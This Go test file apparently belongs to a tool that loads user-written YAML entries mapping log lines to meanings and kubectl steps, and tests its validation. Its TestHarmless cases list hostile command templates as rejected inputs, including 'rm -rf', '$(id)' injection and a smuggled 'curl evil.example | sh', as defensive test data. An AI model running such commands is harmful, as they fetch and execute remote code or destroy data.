package knowledge

import (
	"strings"
	"testing"
)

// good is an entry of a program of somebody's own.
const good = `- id: acme.no-shift
  speaker: Acme
  seen: {version: "3", source: acme/shift.go}
  match: ['no shift is planned for (?P<store>\S+) on (?P<day>\S+), ending']
  samples: ['E no shift is planned for store-7 on monday, ending']
  not: ['no shift is planned for store-7 on monday, waiting']
  means: nobody planned the shifts of {store} for {day}
  steps:
    - {do: inspect, text: see its plan, kubectl: 'get configmap {store}'}
`

// Each fault is refused with its file and line, and what is good beside it counts.
func TestFaults(t *testing.T) {
	for name, test := range map[string]struct{ old, new, want string }{
		"a field":             {"speaker:", "speeker:", "acme.yaml:2: field speeker not found in an Entry"},
		"no list":             {"not: [", "not: x[", "acme.yaml:6: "},
		"no YAML":             {"- id:", "- id: [", "acme.yaml:1: "},
		"an expression":       {`\S+), ending`, `\S+, ending`, "acme.yaml:4: acme.no-shift: error parsing regexp"},
		"everything":          {`no shift is planned for (?P<store>\S+) on (?P<day>\S+), ending`, `(?P<store>.*)(?P<day>.*)`, "acme.yaml:4: acme.no-shift: fits an empty text"},
		"a bomb":              {`(?P<day>\S+)`, `(?P<day>\S{999}\S{999}\S{999}\S{999}\S{999}\S{999})`, "acme.yaml:4: acme.no-shift: comes to too much"},
		"an alternative":      {"ending']\n  samples", "ending|no plan']\n  samples", "acme.yaml:4: acme.no-shift: no sample for no plan"},
		"a sample":            {"monday, ending", "monday, ended", "acme.yaml:4: acme.no-shift: no sample"},
		"a counter-sample":    {"monday, waiting", "monday, ending", "acme.yaml:6: acme.no-shift: fits this counter-sample"},
		"a slot":              {"shifts of {store}", "shifts of {stor}", "acme.yaml:7: acme.no-shift: no expression has a group named stor"},
		"a verb":              {"do: inspect", "do: look", `acme.yaml:9: acme.no-shift: there is no verb "look"`},
		"a verb of the base":  {"do: inspect, text: see its plan, kubectl: 'get configmap {store}'", "do: repair-data", "acme.yaml:9: acme.no-shift: repair-data is for the base alone"},
		"a part in causes":    {"  means:", "  in: {client: refused}\n  means:", "acme.yaml:1: acme.no-shift: in and severity are for the base alone"},
		"a role":              {"  means:", "  in: {client: sad}\n  means:", `acme.yaml:7: acme.no-shift: there is no outcome "sad"`},
		"a severity":          {"  means:", "  severity: dire\n  means:", `acme.yaml:7: acme.no-shift: there is no severity "dire"`},
		"a command":           {", kubectl: 'get configmap {store}'", "", "acme.yaml:9: acme.no-shift: inspect needs either command or kubectl"},
		"an id":               {"acme.no-shift", "no shift", "acme.yaml:1: no shift: an id has the form"},
		"an id of the base":   {"acme.no-shift", "vault.sealed", "acme.yaml:1: vault.sealed: "},
		"no source":           {"version: \"3\", source: acme/shift.go", "version: \"3\"", "acme.yaml:1: acme.no-shift: no seen.source"},
		"no means":            {"  means: nobody planned the shifts of {store} for {day}\n  steps:\n    - {do: inspect, text: see its plan, kubectl: 'get configmap {store}'}\n", "", "acme.yaml:1: acme.no-shift: no means"},
		"over nobody":         {"  means:", "  over: [acme.none]\n  means:", "acme.yaml:7: acme.no-shift: there is no entry acme.none"},
		"over itself":         {"  means:", "  over: [acme.no-shift]\n  means:", "leads back here"},
		"another's sample":    {"ending'", "ending: Vault is sealed'", "which is over the other?"},
		"a control character": {"means: nobody", "means: \"\\e[2Jnobody\"\n  # ", "acme.yaml:7: acme.no-shift: has a control character"},
	} {
		text := strings.ReplaceAll(good, test.old, test.new)
		if text == good {
			t.Errorf("%s: nothing changed", name)
		}
		said := ""
		entries, err := Load("acme.yaml", []byte(text))
		if err != nil {
			said = err.Error()
		} else if b, faults := Embedded().With(entries); len(faults) > 0 {
			said = faults[0].Error()
			if b.Entry("acme.no-shift") != nil || len(b.Entries()) != len(Embedded().Entries()) {
				t.Errorf("%s: it counts", name)
			}
		}
		if !strings.Contains(said, test.want) {
			t.Errorf("%s: %q, want %q", name, said, test.want)
		}
	}
}

func TestWith(t *testing.T) {
	bad := strings.ReplaceAll(strings.ReplaceAll(good, "no-shift", "plan-lost"), "(?P<day>", "(?P<day>(")
	entries, err := Load("acme.yaml", []byte(good+bad))
	if err != nil {
		t.Fatal(err)
	}
	b, faults := Embedded().With(entries)
	hit, ok := b.Meaning("12:00:01 E no shift is planned for store-9 on friday, ending")
	if len(faults) != 1 || !ok || hit.ID != "acme.no-shift" || !hit.FromUser() || Fill(hit.Means, hit.Slots) != "nobody planned the shifts of store-9 for friday" {
		t.Errorf("%v: %+v", faults, hit)
	}
	if _, ok := Embedded().Meaning("E no shift is planned for store-9 on friday, ending"); ok {
		t.Error("the base has it, too")
	}
}

// What comes from a ConfigMap has nobody run anything.
func TestHarmless(t *testing.T) {
	for kubectl, want := range map[string]bool{
		"get pod {store}": true, "logs {pod} -c {container}": true, "delete pod {store}": false, "get pods; rm -rf x": false, "get pods $(id)": false, "exec {pod} -- id": false, "get {kind|pods}": false,
		"get pods {store|; curl evil.example | sh #}": false, "get pods --server=https://evil.example": false, "get pods --token={store}": false,
		"logs {pod} -n {namespace} --previous --tail=50": true, "get pods -l app={store} -o wide": true,
		"why pod/{pod} -n {namespace}": true, "why svc/{store}": true, "why uninstall": false, "why {store}": false, "why -n {namespace} uninstall": false, "why record -o x": false, "why mcp": false, "why": false,
	} {
		entries, err := Load("acme.yaml", []byte(strings.ReplaceAll(good, "get configmap {store}", kubectl)))
		if err != nil {
			t.Fatal(err)
		}
		if left, _ := Harmless(entries); (len(left) == 1) != want {
			t.Errorf("%s: %v", kubectl, !want)
		}
	}
}

// What a log says goes into a command as one word.
func TestFill(t *testing.T) {
	slots := map[string]string{"file": "a b;$(id)'", "name": "web-1"}
	for form, want := range map[string][2]string{
		"rm {file}":             {"rm a b;$(id)'", `rm 'a b;$(id)'\'''`},
		"get {name} {none|x}":   {"get web-1 x", "get web-1 x"},
		"the same {{tag}}, {0}": {"the same {tag}, {0}", "the same {tag}, {0}"},
		`{"a.b": null}`:         {`{"a.b": null}`, `{"a.b": null}`},
	} {
		if got := [2]string{Fill(form, slots), FillCommand(form, slots)}; got != want {
			t.Errorf("%s: %q, want %q", form, got, want)
		}
	}
}

func TestAlternatives(t *testing.T) {
	for expression, want := range map[string][]string{
		`a|b`: {"a", "b"}, `(?i)a|(?-i)b|c`: {"(?i)a", "(?i)(?-i)b", "(?i)(?-i)c"}, `[|]|\||(a|b)`: {`[|]`, `\|`, `(a|b)`}, `a[^]|]|b`: {`a[^]|]`, "b"}, `\Qa|b\E|c`: {`\Qa|b\E`, "c"}, `[[:alpha:]|]`: {`[[:alpha:]|]`}, ``: {""},
	} {
		if got := alternatives(expression); strings.Join(got, "\x00") != strings.Join(want, "\x00") {
			t.Errorf("%s: %q, want %q", expression, got, want)
		}
	}
}

// A file of somebody's may hold anything.
func FuzzLoad(f *testing.F) {
	f.Add(good, "no shift is planned for store-7 on monday, ending")
	f.Add("- &a [*a]", "")
	f.Add("- id: &x acme.x\n  match: [*x]\n- *x", "x")
	f.Add("- match: ['(']\n- null\n", "")
	f.Fuzz(func(t *testing.T, file, text string) {
		entries, err := Load("f.yaml", []byte(file))
		if err != nil {
			return
		}
		entries, _ = Harmless(entries)
		b, faults := Embedded().With(entries)
		for _, fault := range faults {
			if !strings.HasPrefix(fault.Error(), "f.yaml:") {
				t.Errorf("no place: %v", fault)
			}
		}
		for _, h := range b.Match(text) {
			Fill(h.Means, h.Slots)
		}
	})
}
